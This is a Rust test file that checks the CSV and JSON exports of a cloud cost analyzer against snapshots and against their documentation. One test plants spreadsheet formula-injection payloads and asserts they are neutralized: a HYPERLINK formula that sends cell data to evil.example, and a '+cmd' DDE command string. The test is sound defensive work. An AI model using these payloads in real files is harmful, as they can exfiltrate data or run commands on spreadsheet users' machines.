//! The exports other tools read: `findings.csv` for the tiny snapshot in
//! `support/mod.rs` (pinned with insta, and checked against hostile cells),
//! and `docs/json-schema.md` / `docs/exports.md` checked against what
//! `findings.json` and `findings.csv` actually contain, so the documentation
//! cannot silently fall behind the code.

mod support;

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use costwise_analyzer::analysis::{ExclusionReport, RuleStatus};
use costwise_analyzer::manifest::DataGap;
use costwise_analyzer::prices::{PriceOrigin, PriceSource};
use costwise_analyzer::rules::RuleError;
use costwise_analyzer::{Category, Confidence, Evidence, Finding, Remediation, Risk};
use costwise_report::csv_export::{self, BOM, COLUMNS};
use serde_json::Value;

/// The CSV's records (header first), read with a standard reader.
fn records(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn repo_file(path: &str) -> String {
    let full = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").join(path);
    std::fs::read_to_string(&full).unwrap_or_else(|e| panic!("{}: {e}", full.display()))
}

#[test]
fn findings_csv_snapshot() {
    let analysis = support::tiny_analysis();
    let text = csv_export::findings_csv(&analysis).unwrap();
    let body = text.strip_prefix(BOM).expect("the file starts with a UTF-8 byte-order mark");
    assert_eq!(text, csv_export::findings_csv(&analysis).unwrap(), "deterministic");
    insta::assert_snapshot!("findings_csv", body);

    let rows = records(&text);
    assert_eq!(rows[0], COLUMNS, "the header names the documented columns");
    assert_eq!(rows.len(), analysis.findings.len() + 1, "one row per finding");
    let column = |name: &str| COLUMNS.iter().position(|c| *c == name).unwrap();
    // Same order as the analysis (biggest saving first).
    let order: Vec<(&str, &str)> =
        rows[1..].iter().map(|r| (&*r[column("rule")], &*r[column("resource_id")])).collect();
    let expected: Vec<(&str, &str)> =
        analysis.findings.iter().map(|f| (f.rule.as_str(), f.resource_id.as_str())).collect();
    assert_eq!(order, expected);
    // $20.00 + $8.00 counted; converting the gp2 volume overlaps deleting it.
    let counted: Vec<(&str, &str, &str)> = rows[1..]
        .iter()
        .map(|r| (&*r[column("rule")], &*r[column("monthly_savings")], &*r[column("counted")]))
        .collect();
    assert_eq!(
        counted[..3],
        [
            ("unattached-ebs-volume", "20.00", "true"),
            ("unattached-ebs-volume", "8.00", "true"),
            ("gp2-to-gp3", "4.00", "false")
        ]
    );
    // The `<script>` Name tag is just text in a CSV; it arrives unchanged.
    let hostile = &rows[2];
    assert_eq!(hostile[column("resource_name")], support::HOSTILE_NAME);
    assert_eq!(hostile[column("tags")], format!("Name={};team=data", support::HOSTILE_NAME));
}

#[test]
fn hostile_names_and_tags_are_neutralized_in_the_file() {
    let mut analysis = support::tiny_analysis();
    let finding = &mut analysis.findings[0];
    finding.resource_name = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")".into());
    finding.tags = BTreeMap::from([("@team".to_owned(), "x".to_owned())]);
    finding.monthly_savings = -12.5;
    finding.title = "+cmd|' /C calc'!A0, \"quoted\"\nsecond line".into();
    let text = csv_export::findings_csv(&analysis).unwrap();
    let row = &records(&text)[1];
    let column = |name: &str| COLUMNS.iter().position(|c| *c == name).unwrap();
    assert_eq!(row[column("resource_name")], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
    assert_eq!(row[column("tags")], "'@team=x");
    assert_eq!(row[column("title")], "'+cmd|' /C calc'!A0, \"quoted\"\nsecond line");
    assert_eq!(row[column("monthly_savings")], "-12.50", "a negative saving is a number, not neutralized");
    // No cell in the whole file starts with a formula trigger.
    for record in records(&text) {
        for cell in record {
            let numeric = cell.parse::<f64>().is_ok() && !cell.starts_with('+');
            assert!(numeric || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "unsafe cell {cell:?}");
        }
    }
}

/// The demo's committed CSV (kept fresh by `tests/demo.rs`) says what its findings.json says.
#[test]
fn the_sample_csv_agrees_with_the_sample_json() {
    let json: Value = serde_json::from_str(&repo_file("reports/sample/findings.json")).unwrap();
    let rows = records(&repo_file("reports/sample/findings.csv"));
    let findings = json["findings"].as_array().unwrap();
    assert_eq!(rows[0], COLUMNS);
    assert_eq!(rows.len(), findings.len() + 1);
    let column = |name: &str| COLUMNS.iter().position(|c| *c == name).unwrap();
    let mut counted_total = 0.0;
    for (row, finding) in rows[1..].iter().zip(findings) {
        assert_eq!(row[column("rule")], finding["rule"].as_str().unwrap());
        assert_eq!(row[column("resource_id")], finding["resource_id"].as_str().unwrap());
        let savings: f64 = row[column("monthly_savings")].parse().unwrap();
        assert!((savings - finding["monthly_savings"].as_f64().unwrap()).abs() <= 0.005);
        if row[column("counted")] == "true" {
            counted_total += savings;
        }
    }
    let not_counted = rows[1..].iter().filter(|r| r[column("counted")] == "false").count();
    assert_eq!(not_counted, json["overlaps"].as_array().unwrap().len(), "one `false` row per overlap");
    let headline = json["totals"]["monthly_savings"].as_f64().unwrap();
    assert!(
        (counted_total - headline).abs() <= 0.005 * findings.len() as f64,
        "counted rows sum to the headline: {counted_total} vs {headline}"
    );
}

/// `docs/exports.md` lists every CSV column, in order.
#[test]
fn exports_doc_lists_every_csv_column_in_order() {
    let doc = repo_file("docs/exports.md");
    let mut last = 0;
    for column in COLUMNS {
        let needle = format!("| `{column}` |");
        let at = doc.find(&needle).unwrap_or_else(|| panic!("docs/exports.md does not document column `{column}`"));
        assert!(at > last, "docs/exports.md lists `{column}` out of order");
        last = at;
    }
    assert!(repo_file("README.md").contains("docs/exports.md"), "README links docs/exports.md");
    assert!(repo_file("README.md").contains("docs/json-schema.md"), "README links docs/json-schema.md");
}

/// Objects whose keys are data (table names, categories, tag keys, setting names), not fields.
const MAPS: [&str; 5] =
    ["coverage.tables", "coverage.missing_tables", "totals.by_category", "findings[].tags", "rules[].settings"];

/// Every field path in `value`: `(object path, key)`, e.g. `("findings[].remediation", "cli")`.
fn fields(value: &Value, path: &str, out: &mut BTreeSet<(String, String)>) {
    match value {
        Value::Object(map) if !MAPS.contains(&path) => {
            for (key, child) in map {
                out.insert((path.to_owned(), key.clone()));
                let child_path = if path.is_empty() { key.clone() } else { format!("{path}.{key}") };
                fields(child, &child_path, out);
            }
        }
        Value::Array(items) => {
            for item in items {
                fields(item, &format!("{path}[]"), out);
            }
        }
        _ => {}
    }
}

/// Sections of the doc by heading: the paths named in backticks in a `###` heading → the section's text.
fn sections(doc: &str) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut current: Vec<String> = Vec::new();
    for line in doc.lines() {
        if let Some(heading) = line.strip_prefix("### ") {
            current = heading.split('`').skip(1).step_by(2).map(str::to_owned).collect();
            if heading.starts_with("Top level") {
                current.push(String::new());
            }
            for path in &current {
                out.entry(path.clone()).or_insert_with(String::new);
            }
        } else if line.starts_with("## ") {
            current.clear();
        } else {
            for path in &current {
                let text = out.get_mut(path).unwrap();
                text.push_str(line);
                text.push('\n');
            }
        }
    }
    out
}

/// Values for the parts of the document the tiny snapshot and the demo leave empty (no exclusions,
/// no failures), each field set so nothing is skipped.
fn rarely_seen_fields() -> Vec<(&'static str, Value)> {
    let finding = Finding {
        rule: "r".into(),
        category: Category::Storage,
        account_id: "111111111111".into(),
        region: Some("us-east-1".into()),
        resource_type: "s3-bucket".into(),
        resource_id: "b".into(),
        resource_name: Some("n".into()),
        title: "t".into(),
        evidence: vec![
            Evidence::quantity("q", 1.0, "GiB"),
            Evidence::monthly("m", 1.0),
            Evidence::percent("p", 1.0),
            Evidence::text("x", "y"),
            Evidence::series("s", [1.0], "%"),
        ],
        monthly_cost: 1.0,
        monthly_savings: 1.0,
        price_source: PriceSource { origin: PriceOrigin::Catalog, detail: "d".into() },
        confidence: Confidence::High,
        risk: Risk::NonDisruptive,
        remediation: Remediation {
            summary: "s".into(),
            cli: vec!["aws".into()],
            terraform: Some("tf".into()),
            lifecycle_configuration: Some("{}".into()),
        },
        tags: BTreeMap::from([("k".to_owned(), "v".to_owned())]),
        covers: vec!["vol-1".into()],
    };
    let gap = DataGap {
        table: Some(costwise_analyzer::Table::Metrics),
        account_id: Some("1".into()),
        region: Some("r".into()),
        reason: "x".into(),
    };
    let exclusion =
        ExclusionReport { kind: "tag".into(), value: "a=b".into(), matched_findings: 1, matches_snapshot: true };
    let error = RuleError { rule: "r".into(), message: "m".into() };
    vec![
        ("findings[]", serde_json::to_value(finding).unwrap()),
        ("coverage.data_gaps[]", serde_json::to_value(gap).unwrap()),
        ("exclusions[]", serde_json::to_value(exclusion).unwrap()),
        ("errors[]", serde_json::to_value(error).unwrap()),
        ("rules[].status", serde_json::to_value(RuleStatus::Failed("m".into())).unwrap()),
    ]
}

/// `docs/json-schema.md` documents every field `findings.json` has, under the heading of the object
/// that holds it: every key of the render fixture's and the demo's documents, and every field of
/// a fully populated finding, exclusion, error and data gap.
#[test]
fn json_schema_doc_documents_every_field() {
    let doc = repo_file("docs/json-schema.md");
    let sections = sections(&doc);
    let mut all = BTreeSet::new();
    let fixture: Value =
        serde_json::from_str(&costwise_report::json::findings_json(&support::tiny_analysis()).unwrap()).unwrap();
    fields(&fixture, "", &mut all);
    let sample: Value = serde_json::from_str(&repo_file("reports/sample/findings.json")).unwrap();
    fields(&sample, "", &mut all);
    for (path, value) in rarely_seen_fields() {
        fields(&value, path, &mut all);
    }
    // Sanity: the walk reached deep fields.
    for (path, key) in [("", "schema_version"), ("findings[]", "covers"), ("findings[].evidence[].value", "per")] {
        assert!(all.contains(&(path.to_owned(), key.to_owned())), "walk missed {path}.{key}");
    }
    let mut missing = Vec::new();
    for (path, key) in &all {
        let documented = sections.get(path).is_some_and(|text| text.contains(&format!("| `{key}` |")));
        if !documented {
            missing.push(if path.is_empty() { key.clone() } else { format!("{path}.{key}") });
        }
    }
    assert!(
        missing.is_empty(),
        "docs/json-schema.md does not document (as a `| `field` |` row under a `### ` heading naming the object): {missing:?}"
    );
    assert!(
        doc.contains(&format!("schema_version` is `{}`", costwise_report::json::SCHEMA_VERSION)),
        "the doc names the current schema version"
    );
}
